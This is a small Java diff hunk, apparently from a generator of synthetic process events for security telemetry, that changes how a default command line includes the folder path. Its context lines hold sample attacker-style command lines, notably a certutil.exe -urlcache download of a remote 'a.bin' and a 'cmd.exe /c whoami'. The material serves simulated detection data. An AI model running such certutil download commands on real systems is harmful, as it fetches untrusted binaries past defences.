@@ -66,7 +66,7 @@ final class EventContext {
             case "powershell.exe" -> "powershell.exe -NoProfile -Command Get-Process";
             case "cmd.exe" -> "cmd.exe /c whoami";
             case "certutil.exe" -> "certutil.exe -urlcache -f https://" + Catalog.REMOTE_URLS.get(2) + "/a.bin";
-            default -> "\"" + name + "\"";
+            default -> "\"" + folder + "\\" + name + "\"";
         };
         return new Process(name, folder + "\\" + name, Seeds.hex(random, 40), Seeds.hex(random, 32),
                 20_000 + random.nextInt(4_000_000), 1_000 + random.nextInt(60_000), commandLine, created, company,
